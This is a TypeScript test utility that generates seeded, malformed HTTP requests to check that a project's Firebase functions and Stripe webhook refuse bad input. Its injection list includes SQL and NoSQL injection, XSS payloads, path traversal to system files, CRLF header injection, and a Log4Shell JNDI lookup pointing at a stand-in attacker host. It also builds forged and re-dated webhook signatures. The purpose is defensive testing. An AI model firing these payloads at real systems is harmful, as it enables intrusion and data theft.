// A deterministic, seeded generator of malformed HTTP requests for the functions. No fuzzing
// library: the shapes worth sending are few and known (wrong method, bad credentials, bodies
// that are not JSON, too big, mistyped, with unknown keys or injection strings), and a tiny
// PRNG keeps every run identical for a seed, so a failure replays exactly (FUZZ_SEED=…).
import type { CallOptions } from './emulators';

/** mulberry32: a small, well-distributed 32-bit PRNG; enough for choosing test inputs. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface FuzzTarget {
  /** The HTTP function's name (`/api/<name>`). */
  name: string;
  /** How a caller proves who it is: a Firebase ID token, or Stripe's webhook signature. */
  auth: 'id-token' | 'stripe-signature';
  /** A body the function accepts (given valid credentials). */
  validBody: () => Record<string, unknown>;
  /** Keys the function requires. */
  requiredKeys: string[];
  /** Keys whose type the function checks, with the JS type it expects. */
  typedKeys: Record<string, 'string' | 'number' | 'boolean' | 'object'>;
  /** String keys with a strict format or vocabulary, where any injection string is invalid. */
  strictStringKeys: string[];
}

export interface FuzzContext {
  /** A valid ID token (id-token targets), so the body itself is what gets refused. */
  token?: string;
  /** Signs a payload as Stripe would with the right secret (stripe-signature targets). */
  sign?: (payload: string, timestamp?: number) => string;
  /** An unsigned ID token whose claims are wrong for this project or expired. */
  badToken: (kind: 'expired' | 'other-project' | 'no-subject', random: () => number) => string;
}

export interface FuzzCase {
  category: string;
  label: string;
  request: CallOptions;
  /**
   * 'json-4xx': our own answer, a 4xx with a JSON `{ error }`. 'platform-400': invalid JSON
   * labelled application/json, which the platform's body parser refuses (HTML 400) before
   * our code runs.
   */
  expect: 'json-4xx' | 'platform-400';
}

const INJECTIONS = [
  "'; DROP TABLE trips; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '__proto__',
  '{"$gt": ""}',
  'trips/../checkouts/cs_test_1',
  '\u0000\u0001\u0002',
  '\u202Egnp.exe',
  '%00%0d%0aSet-Cookie: a=b',
  'cs_test_1\nX-Injected: yes',
  '😀'.repeat(300),
  'A'.repeat(5000),
  '',
  ' ',
];
// No OPTIONS: the Functions emulator turns on firebase-functions' CORS debug feature, whose
// middleware answers preflights 204 before our code runs. (Deployed without a `cors` option,
// OPTIONS reaches our handler and gets the same 405 as these.)
const METHODS = ['GET', 'PUT', 'PATCH', 'DELETE'];
const UNKNOWN_KEYS = [
  'admin',
  'userId',
  'uid',
  'paid',
  'amountPaid',
  'status',
  'tripId',
  'isBooked',
  'constructor',
  'prototype',
  '$where',
  '__name__',
  'x'.repeat(300),
];
const NON_JSON_TEXT = [
  'tripName=Japan&numPeople=4',
  '<trip><name>Japan</name></trip>',
  'hello',
  '{unclosed',
  "{'single': 'quotes'}",
  '\u0000\u00ff\u00fe',
  'sessionId: cs_test_1',
];
const BROKEN_JSON = [
  '{',
  '{"a":',
  '{"tripName": "x",}',
  "{'a': 1}",
  '[1, 2',
  '{"a": undefined}',
  'NaN',
  '{"a": 1}}',
  '\u00ff\u00fe{}',
];
const NON_OBJECT_JSON = ['[]', '[{}]', '42', '"text"', 'null', 'true', '[null]', '-0', '1e309'];

const pick = <T>(random: () => number, items: readonly T[]): T => items[Math.floor(random() * items.length)];
/** HTTP header values are ASCII: keep the printable part of an injection string. */
const headerSafe = (value: string) => value.replace(/[^\x20-\x7e]/g, '');

/** A value whose JSON type differs from `expected` (null counts as a wrong type everywhere). */
function wrongTypeFor(expected: string, random: () => number): unknown {
  const candidates: unknown[] = [
    null,
    0,
    -1,
    1.5,
    1e21,
    true,
    false,
    [],
    ['a'],
    {},
    { nested: { deep: true } },
    'text',
    '',
  ];
  const wrong = candidates.filter((value) => {
    if (value === null) return true;
    if (Array.isArray(value)) return expected !== 'array';
    return typeof value !== expected;
  });
  return pick(random, wrong);
}

type Generator = (random: () => number, target: FuzzTarget, ctx: FuzzContext) => Omit<FuzzCase, 'category'>;

/** Attaches the right (valid) credentials, so the case is refused for its body alone. */
function withCredentials(
  target: FuzzTarget,
  ctx: FuzzContext,
  rawBody: string,
  contentType = 'application/json',
): CallOptions {
  if (target.auth === 'id-token') return { token: ctx.token, rawBody, headers: { 'content-type': contentType } };
  const headers: Record<string, string> = { 'content-type': contentType };
  if (ctx.sign) headers['stripe-signature'] = ctx.sign(rawBody);
  return { rawBody, headers };
}

const idTokenGenerators: Record<string, Generator> = {
  'wrong method': (random, target, ctx) => {
    const method = pick(random, METHODS);
    return {
      label: `${method} with a valid body`,
      request: { method, token: ctx.token, ...(method === 'GET' ? {} : { body: target.validBody() }) },
      expect: 'json-4xx',
    };
  },
  'missing or malformed credentials': (random, target) => {
    const header = pick(random, [
      '',
      'Bearer',
      'Bearer ',
      'Basic dXNlcjpwYXNz',
      'Token abc',
      'Bearer a b',
      headerSafe(`Bearer ${pick(random, INJECTIONS)}`),
    ]);
    return {
      label: `authorization ${JSON.stringify(header.slice(0, 40))}`,
      request: {
        body: target.validBody(),
        headers: header ? { authorization: header } : ({} as Record<string, string>),
      },
      expect: 'json-4xx',
    };
  },
  'expired or forged token': (random, target, ctx) => {
    const kind = pick(random, ['expired', 'other-project', 'no-subject'] as const);
    return {
      label: `${kind} token`,
      request: { token: ctx.badToken(kind, random), body: target.validBody() },
      expect: 'json-4xx',
    };
  },
  'garbage token': (random, target) => {
    const length = 1 + Math.floor(random() * 2000);
    const token = Array.from({ length }, () =>
      pick(random, [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.']),
    ).join('');
    return {
      label: `random token of ${length} characters`,
      request: { token, body: target.validBody() },
      expect: 'json-4xx',
    };
  },
  'not JSON (text/plain)': (random, target, ctx) => {
    const text = pick(random, NON_JSON_TEXT);
    return {
      label: `text/plain ${JSON.stringify(text.slice(0, 30))}`,
      request: withCredentials(
        target,
        ctx,
        text,
        pick(random, [
          'text/plain',
          'application/x-www-form-urlencoded',
          'application/xml',
          'application/octet-stream',
        ]),
      ),
      expect: 'json-4xx',
    };
  },
  'invalid JSON labelled as JSON': (random, target, ctx) => {
    const text = pick(random, BROKEN_JSON);
    return {
      label: `application/json ${JSON.stringify(text)}`,
      request: withCredentials(target, ctx, text),
      expect: 'platform-400',
    };
  },
  'JSON that is not an object': (random, target, ctx) => {
    const text = pick(random, NON_OBJECT_JSON);
    // The platform's JSON parser is strict: as application/json only arrays get past it.
    const contentType = text.startsWith('[') ? pick(random, ['application/json', 'text/plain']) : 'text/plain';
    return {
      label: `${contentType} ${text}`,
      request: withCredentials(target, ctx, text, contentType),
      expect: 'json-4xx',
    };
  },
  'huge body': (random, target, ctx) => {
    const size = pick(random, [10_000, 100_000, 500_000, 1_000_000]);
    const stringKeys = [
      ...target.strictStringKeys,
      ...Object.keys(target.typedKeys).filter((k) => target.typedKeys[k] === 'string'),
    ];
    // A function without string fields (deleteAccount takes `{}`) gets the bulk in an extra key.
    const key = stringKeys.length > 0 ? pick(random, stringKeys) : 'padding';
    return {
      label: `${key} of ${size} characters`,
      request: withCredentials(target, ctx, JSON.stringify({ ...target.validBody(), [key]: 'x'.repeat(size) })),
      expect: 'json-4xx',
    };
  },
  'wrong type': (random, target, ctx) => {
    const key = pick(random, Object.keys(target.typedKeys));
    const value = wrongTypeFor(target.typedKeys[key], random);
    return {
      label: `${key} = ${JSON.stringify(value)}`,
      request: withCredentials(target, ctx, JSON.stringify({ ...target.validBody(), [key]: value })),
      expect: 'json-4xx',
    };
  },
  'unknown key': (random, target, ctx) => {
    const key =
      random() < 0.5
        ? pick(random, UNKNOWN_KEYS)
        : pick(
            random,
            INJECTIONS.filter((s) => s !== '__proto__' && s.length > 0),
          );
    const body = { ...target.validBody(), [key]: pick(random, [true, 'x', 1, null, {}]) };
    return {
      label: `extra key ${JSON.stringify(key.slice(0, 30))}`,
      request: withCredentials(target, ctx, JSON.stringify(body)),
      expect: 'json-4xx',
    };
  },
  'missing key': (random, target, ctx) => {
    const key = pick(random, target.requiredKeys);
    const body = Object.fromEntries(Object.entries(target.validBody()).filter(([k]) => k !== key));
    return { label: `without ${key}`, request: withCredentials(target, ctx, JSON.stringify(body)), expect: 'json-4xx' };
  },
  'injection string': (random, target, ctx) => {
    const key = pick(random, target.strictStringKeys);
    const value = pick(random, INJECTIONS);
    return {
      label: `${key} = ${JSON.stringify(value.slice(0, 30))}`,
      request: withCredentials(target, ctx, JSON.stringify({ ...target.validBody(), [key]: value })),
      expect: 'json-4xx',
    };
  },
};

const signatureGenerators: Record<string, Generator> = {
  'wrong method': (random, target, ctx) => {
    const method = pick(random, METHODS);
    const payload = JSON.stringify(target.validBody());
    return {
      label: `${method} of a signed event`,
      request: { method, ...(method === 'GET' ? {} : withCredentials(target, ctx, payload)) },
      expect: 'json-4xx',
    };
  },
  'missing or forged signature': (random, target) => {
    const payload = JSON.stringify(target.validBody());
    const t = Math.floor(Date.now() / 1000);
    const header = pick(random, [
      '',
      ' ',
      `t=${t}`,
      `v1=${'0'.repeat(64)}`,
      `t=${t},v1=${'a'.repeat(64)}`,
      `t=${t},v1=`,
      't=abc,v1=def',
      headerSafe(pick(random, INJECTIONS)),
    ]);
    return {
      label: `stripe-signature ${JSON.stringify(header.slice(0, 40))}`,
      request: {
        rawBody: payload,
        headers: { 'content-type': 'application/json', ...(header ? { 'stripe-signature': header } : {}) },
      },
      expect: 'json-4xx',
    };
  },
  // Stripe's tolerance is about age: a stale signature is refused; re-dating it breaks it.
  // (A future timestamp with a valid signature passes the SDK, but needs the secret to make.)
  'stale or re-dated signature': (random, target, ctx) => {
    const payload = JSON.stringify(target.validBody());
    const now = Math.floor(Date.now() / 1000);
    const age = pick(random, [301, 400, 601, 3600, 86_400]);
    const stale = ctx.sign!(payload, now - age);
    const redated = random() < 0.5;
    const header = redated ? stale.replace(/^t=\d+/, `t=${now}`) : stale;
    return {
      label: redated ? `signed ${age}s ago, re-dated to now` : `signed ${age}s ago`,
      request: { rawBody: payload, headers: { 'content-type': 'application/json', 'stripe-signature': header } },
      expect: 'json-4xx',
    };
  },
  'altered after signing': (random, target, ctx) => {
    const payload = JSON.stringify(target.validBody());
    const altered = payload
      .replace(/"amount_total":\d+/, `"amount_total":${Math.floor(random() * 100)}`)
      .replace('"paid"', pick(random, ['"paid" ', '"unpaid"']));
    return {
      label: 'body altered after signing',
      request: {
        rawBody: altered,
        headers: { 'content-type': 'application/json', 'stripe-signature': ctx.sign!(payload) },
      },
      expect: 'json-4xx',
    };
  },
  'not JSON (text/plain)': idTokenGenerators['not JSON (text/plain)'],
  'invalid JSON labelled as JSON': idTokenGenerators['invalid JSON labelled as JSON'],
  'signed event of the wrong shape': (random, target, ctx) => {
    const event = target.validBody() as { data: { object: Record<string, unknown> } };
    const shapes: [string, unknown][] = [
      ['JSON array', []],
      ['no type', { ...event, type: undefined }],
      ['type not a string', { ...event, type: pick(random, [42, null, ['checkout.session.completed']]) }],
      ['no data', { ...event, data: undefined }],
      ['data.object not an object', { ...event, data: { object: pick(random, [null, 'cs_test', 42, []]) } }],
      ['session without an id', { ...event, data: { object: { ...event.data.object, id: undefined } } }],
      [
        'session id not a string',
        { ...event, data: { object: { ...event.data.object, id: pick(random, [42, null, {}]) } } },
      ],
    ];
    const [label, body] = pick(random, shapes);
    return {
      label: `signed ${label}`,
      request: withCredentials(target, ctx, JSON.stringify(body)),
      expect: 'json-4xx',
    };
  },
  'huge body': (random, target) => {
    const size = pick(random, [100_000, 500_000, 1_000_000]);
    const payload = JSON.stringify({ ...target.validBody(), padding: 'x'.repeat(size) });
    return {
      label: `unsigned event of ${size} characters`,
      request: {
        rawBody: payload,
        headers: { 'content-type': 'application/json', 'stripe-signature': `t=1,v1=${'f'.repeat(64)}` },
      },
      expect: 'json-4xx',
    };
  },
};

/** Categories that tamper with a kind of key apply only to targets that have such keys. */
function appliesTo(category: string, target: FuzzTarget): boolean {
  if (category === 'wrong type') return Object.keys(target.typedKeys).length > 0;
  if (category === 'missing key') return target.requiredKeys.length > 0;
  if (category === 'injection string') return target.strictStringKeys.length > 0;
  return true;
}

/**
 * `count` malformed requests for `target`, cycling through every category so each is
 * represented, with the details drawn from the seeded PRNG. Point it at any HTTP function by
 * describing it as a FuzzTarget.
 */
export function malformedRequests(target: FuzzTarget, ctx: FuzzContext, seed: number, count: number): FuzzCase[] {
  const random = seededRandom(seed);
  const generators = Object.entries(target.auth === 'id-token' ? idTokenGenerators : signatureGenerators).filter(
    ([category]) => appliesTo(category, target),
  );
  return Array.from({ length: count }, (_, index) => {
    const [category, generate] = generators[index % generators.length];
    return { category, ...generate(random, target, ctx) };
  });
}

/** Runs `task` over `items` with at most `limit` in flight. */
export async function mapWithConcurrency<T, R>(items: T[], limit: number, task: (item: T) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  const worker = async () => {
    while (next < items.length) {
      const index = next;
      next += 1;
      results[index] = await task(items[index]);
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, items.length) }, worker));
  return results;
}
